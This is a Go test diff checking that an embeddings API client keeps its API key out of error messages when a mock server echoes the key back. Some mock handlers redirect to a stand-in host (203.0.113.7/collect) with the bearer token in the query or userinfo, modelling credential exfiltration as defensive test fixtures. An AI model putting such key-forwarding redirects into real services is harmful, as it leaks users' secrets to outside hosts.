@@ -643,3 +643,52 @@ func TestRedirectElsewhereSendsNothing(t *testing.T) {
 		})
 	}
 }
+
+// TestServerEchoingTheKeySeesItInNoError: a server that quotes the
+// Authorization header it got, in every place an answer can carry text
+// back (a redirect's target, a non-JSON body, a JSON body of the wrong
+// shape, each error status), gets the key into no error message.
+func TestServerEchoingTheKeySeesItInNoError(t *testing.T) {
+	const key = "sk-echo-secret-7f3a9b"
+	answers := map[string]func(w http.ResponseWriter, r *http.Request, auth string){
+		"redirect": func(w http.ResponseWriter, r *http.Request, auth string) {
+			http.Redirect(w, r, "http://203.0.113.7/collect?k="+auth, http.StatusTemporaryRedirect)
+		},
+		"redirect-userinfo": func(w http.ResponseWriter, r *http.Request, auth string) {
+			http.Redirect(w, r, "http://u:"+auth+"@203.0.113.7/", http.StatusFound)
+		},
+		"html-200": func(w http.ResponseWriter, r *http.Request, auth string) {
+			fmt.Fprintf(w, "<html>your key %s</html>", auth)
+		},
+		"wrong-json-200": func(w http.ResponseWriter, r *http.Request, auth string) {
+			w.Header().Set("Content-Type", "application/json")
+			fmt.Fprintf(w, `{"data":[{"embedding":"%s","index":0}]}`, auth)
+		},
+		"index-200": func(w http.ResponseWriter, r *http.Request, auth string) {
+			w.Header().Set("Content-Type", "application/json")
+			fmt.Fprintf(w, `{"data":[{"embedding":[1,2],"index":0}],"model":"%s"}`, auth)
+		},
+	}
+	for _, code := range []int{400, 401, 403, 404, 422, 429, 500, 503} {
+		answers[fmt.Sprint(code)] = func(w http.ResponseWriter, r *http.Request, auth string) {
+			w.WriteHeader(code)
+			fmt.Fprintf(w, "plain text quoting %s", auth)
+		}
+	}
+	for name, answer := range answers {
+		t.Run(name, func(t *testing.T) {
+			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				answer(w, r, strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
+			}))
+			defer srv.Close()
+			o := newTestOpenAI(t, srv, OpenAIConfig{APIKey: key, MaxTries: 2, Dims: 3})
+			_, err := o.EmbedDocuments(context.Background(), []string{"a"})
+			if err == nil {
+				t.Fatal("EmbedDocuments succeeded")
+			}
+			if strings.Contains(err.Error(), key) {
+				t.Errorf("error quotes the key: %v", err)
+			}
+		})
+	}
+}
